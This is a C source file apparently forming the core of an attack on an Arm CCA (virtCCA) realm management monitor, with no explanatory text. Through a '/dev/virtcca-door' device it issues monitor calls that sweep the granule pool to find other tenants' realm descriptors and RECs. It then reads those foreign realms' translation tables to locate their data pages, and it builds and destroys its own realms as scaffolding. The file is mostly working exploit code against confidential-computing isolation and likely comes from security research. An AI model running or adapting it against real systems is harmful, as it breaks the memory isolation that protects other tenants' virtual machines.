/* SPDX-License-Identifier: BSD-3-Clause */
#include "attack.h"

#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#define SCAN	4096U		/* calls at a time */

struct own own;
uint64_t pool_base, pool_pages;
struct realm_seen *seen[MAX_REALMS];
unsigned int num_seen;
uint64_t recs_seen[MAX_RECS];
unsigned int num_recs_seen;
_Thread_local uint64_t random_state;
static int door;

_Noreturn void die(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	fputs("FAIL: ", stdout);
	vprintf(format, args);
	putchar('\n');
	va_end(args);
	exit(1);
}

/* ------------------------------------------------------------------- calls */

static void calls(struct door_call *call, size_t count)
{
	struct door_calls all = { (uintptr_t)call, count };

	if (ioctl(door, DOOR_CALLS, &all))
		die("the door is shut");
}

struct answer smc(const uint64_t x[6])
{
	struct door_call c;
	struct answer a;

	memset(&c, 0xa5, sizeof(c));
	memcpy(c.x, x, 6 * sizeof(*x));
	calls(&c, 1);
	memcpy(a.x, c.x, sizeof(a.x));
	return a;
}

uint64_t random64(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return random_state * 0x2545f4914f6cdd1dUL;
}

unsigned int pick(unsigned int n)
{
	return (unsigned int)(random64() >> 33) % n;
}

/* -------------------------------------------------------------------- look */

void *own_page(unsigned int i)
{
	return own.at + i * PAGE;
}

void world_open(void)
{
	struct door_pages pages = { OWN_PAGES, (uintptr_t)own.pa };
	struct answer a;

	door = open("/dev/virtcca-door", O_RDWR);
	if (door < 0 || ioctl(door, DOOR_PAGES, &pages))
		die("no door to the monitor");
	own.at = mmap(NULL, OWN_PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, door, 0);
	if (own.at == MAP_FAILED)
		die("the door shows no pages");
	a = SMC(TMM_POOL_INFO, 0);
	if (a.x[0])
		die("no pool: %#lx", a.x[0]);
	pool_base = a.x[1];
	pool_pages = a.x[2] / PAGE;
}

static bool is_own(uint64_t pa)
{
	for (unsigned int i = 0; i < OWN_PAGES; i++)
		if (own.pa[i] == pa)
			return true;
	return false;
}

/* The width is where addresses end. */
static void look_at_realm(uint64_t rd)
{
	struct realm_seen *r = calloc(1, sizeof(*r));
	uint64_t ipa = 0, end;

	if (!r || num_seen == MAX_REALMS)
		die("too many realms");
	r->rd = rd;
	for (r->width = 32; r->width < 48; r->width++)
		if (STATUS(RMI_RTT_READ_ENTRY, rd, 1UL << r->width, 3))
			break;
	end = 1UL << (r->width - 1);
	while (ipa < end) {
		struct answer a = SMC(RMI_RTT_READ_ENTRY, rd, ipa, 3);
		uint64_t level = a.x[1], span = PAGE << (9 * (3 - level));

		if (a.x[0] || level > 3)
			die("READ_ENTRY of %#lx: %#lx", ipa, a.x[0]);
		if (a.x[2] == RMI_RTTE_ASSIGNED && r->data < MAX_SEEN) {
			r->page[r->data].ipa = ipa;
			r->page[r->data++].pa = a.x[3];
		}
		if (level == 3 && !(ipa % BLOCK) && r->tables < COUNT_OF(r->table)) {
			a = SMC(RMI_RTT_READ_ENTRY, rd, ipa, 2);
			r->table[r->tables].ipa = ipa;
			r->table[r->tables++].pa = a.x[3];
		}
		ipa = (ipa & ~(span - 1)) + span;
	}
	seen[num_seen++] = r;
}

/*
 * Of each granule of the pool: is it an RD, is it a REC? An RD counts the auxiliary
 * granules of its RECs. A REC is refused as another realm's, all else as no REC.
 */
static void look_at_granules(uint64_t first, uint64_t count, uint64_t rd)
{
	static struct door_call call[2 * SCAN];

	for (uint64_t i = 0; i < count; i++) {
		call[2 * i] = (struct door_call){ { RMI_REC_AUX_COUNT, first + i * PAGE } };
		call[2 * i + 1] = (struct door_call){ { RMI_RTT_SET_RIPAS, rd,
							first + i * PAGE, 0, PAGE } };
	}
	calls(call, 2 * count);
	for (uint64_t i = 0; i < count; i++) {
		if (call[2 * i].x[0] == RMI_SUCCESS && !is_own(first + i * PAGE))
			look_at_realm(first + i * PAGE);
		if (RMI_STATUS(call[2 * i + 1].x[0]) == RMI_ERROR_REC &&
		    num_recs_seen < MAX_RECS)
			recs_seen[num_recs_seen++] = first + i * PAGE;
	}
}

void world_look(void)
{
	struct own_realm mine;

	own_realm_must(&mine, OWN_RANDOM, 0xfff0);
	for (uint64_t i = 0; i < pool_pages; i += SCAN)
		look_at_granules(pool_base + i * PAGE,
				 pool_pages - i < SCAN ? pool_pages - i : SCAN, mine.rd);
	own_take_back(OWN_RANDOM);
}

/* ---------------------------------------------------------- our own realms */

#define STEP(r, ...)	((r)->refusals += STATUS(__VA_ARGS__) != RMI_SUCCESS)

static unsigned int own_next(struct own_realm *r)
{
	if (r->next == r->end)
		die("a realm of our own is too large");
	return r->next++;
}

static uint64_t own_granule(struct own_realm *r)
{
	uint64_t pa = own.pa[own_next(r)];

	STEP(r, RMI_GRANULE_DELEGATE, pa);
	return pa;
}

static void *own_normal(struct own_realm *r, uint64_t *pa)
{
	unsigned int i = own_next(r);

	*pa = own.pa[i];
	return memset(own_page(i), 0, PAGE);
}

void own_realm_make(struct own_realm *r, unsigned int first, uint16_t vmid)
{
	uint64_t num_aux;
	uint32_t *src;

	*r = (struct own_realm){ .next = first, .end = first + OWN_REALM };
	r->rd = own_granule(r);
	r->root = own_granule(r);
	r->realm_params = own_normal(r, &r->realm_params_pa);
	r->rec_params = own_normal(r, &r->rec_params_pa);
	r->run = own_normal(r, &r->run_pa);
	src = own_normal(r, &r->src_pa);
	src[0] = 0x14000000;		/* b . */

	r->realm_params->s2sz = OWN_WIDTH;
	r->realm_params->num_bps = 1;
	r->realm_params->num_wps = 1;
	r->realm_params->vmid = vmid;
	r->realm_params->rtt_base = r->root;
	r->realm_params->rtt_level_start = 1;
	r->realm_params->rtt_num_start = 1;
	STEP(r, RMI_REALM_CREATE, r->rd, r->realm_params_pa);
	STEP(r, RMI_RTT_CREATE, r->rd, own_granule(r), OWN_IPA, 2);
	STEP(r, RMI_RTT_CREATE, r->rd, own_granule(r), OWN_IPA, 3);
	STEP(r, RMI_RTT_INIT_RIPAS, r->rd, OWN_IPA, OWN_IPA + BLOCK);
	r->data = own_granule(r);
	STEP(r, RMI_DATA_CREATE, r->rd, r->data, OWN_IPA, r->src_pa, 0);

	r->rec_params->flags = RMI_REC_RUNNABLE;
	r->rec_params->pc = OWN_IPA;
	/* Others scribble on our pages, so nothing is read back from there. */
	num_aux = SMC(RMI_REC_AUX_COUNT, r->rd).x[1];
	if (num_aux > RMI_REC_MAX_AUX)
		num_aux = 0;
	r->rec_params->num_aux = num_aux;
	for (unsigned int i = 0; i < num_aux; i++)
		r->rec_params->aux[i] = own_granule(r);
	r->rec = own_granule(r);
	STEP(r, RMI_REC_CREATE, r->rd, r->rec, r->rec_params_pa);
	STEP(r, RMI_REALM_ACTIVATE, r->rd);
	STEP(r, RMI_REC_ENTER, r->rec, r->run_pa);
	r->spare = own_granule(r);
}

void own_realm_must(struct own_realm *r, unsigned int first, uint16_t vmid)
{
	own_realm_make(r, first, vmid);
	if (r->refusals || r->run->exit.exit_reason != RMI_EXIT_IRQ)
		die("no realm of our own: %u refusals, exit reason %u", r->refusals,
		    r->run->exit.exit_reason);
}

static void strip(uint64_t rd, uint64_t fid, uint64_t level)
{
	uint64_t ipa = 0, span = PAGE << (9 * (4 - level));

	while (ipa < 1UL << 48) {
		struct answer a = fid == RMI_DATA_DESTROY ? SMC(fid, rd, ipa) :
							    SMC(fid, rd, ipa, level);

		if (a.x[0] && RMI_STATUS(a.x[0]) != RMI_ERROR_RTT)
			return;
		ipa = a.x[2] > ipa ? a.x[2] : ipa + (level ? span : PAGE);
	}
}

/* Realms hold RECs and tables, these hold the rest; what nobody holds is let go. */
unsigned int own_take_back(unsigned int first)
{
	unsigned int left = 0, i;

	for (i = first; i < OWN_PAGES; i++)
		SMC(RMI_REC_DESTROY, own.pa[i]);
	for (i = first; i < OWN_PAGES; i++) {
		if (STATUS(RMI_REC_AUX_COUNT, own.pa[i]))
			continue;
		strip(own.pa[i], RMI_DATA_DESTROY, 0);
		for (uint64_t level = 3; level; level--)
			strip(own.pa[i], RMI_RTT_DESTROY, level);
		SMC(RMI_REALM_DESTROY, own.pa[i]);
	}
	for (i = first; i < OWN_PAGES; i++) {
		SMC(RMI_GRANULE_UNDELEGATE, own.pa[i]);
		/* it is ours when it can go both ways */
		if (STATUS(RMI_GRANULE_DELEGATE, own.pa[i]) ||
		    STATUS(RMI_GRANULE_UNDELEGATE, own.pa[i]))
			left++;
	}
	return left;
}
